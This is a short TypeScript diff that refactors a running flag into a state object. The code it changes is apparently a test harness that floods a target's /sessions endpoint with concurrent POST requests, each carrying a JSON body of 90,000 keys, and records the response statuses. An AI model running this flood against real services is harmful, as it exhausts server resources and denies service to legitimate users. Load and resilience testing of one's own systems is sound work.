@@ -7,11 +7,11 @@ const NAMES = 90_000;
 
 const body = `{${Array.from({ length: NAMES }, (_, name) => `"n${name}":1`).join(',')}}`;
 const statuses: Record<string, number> = {};
-let isOn = false;
+const state = { isOn: false };
 
 async function attack(): Promise<void> {
   const headers = { 'content-type': 'application/json' };
-  while (isOn) {
+  while (state.isOn) {
     const status = await fetch(`${targetOf().url}/sessions`, { method: 'POST', headers, body }).then(
       (response) => String(response.status),
       () => 'cut',
@@ -24,12 +24,12 @@ let attacks: Promise<void>[] = [];
 
 obey({
   start: () => {
-    isOn = true;
+    state.isOn = true;
     attacks = Array.from({ length: CONNECTIONS }, attack);
     return 'started';
   },
   stop: async () => {
-    isOn = false;
+    state.isOn = false;
     await Promise.all(attacks);
     return { connections: CONNECTIONS, bodyBytes: body.length, statuses };
   },
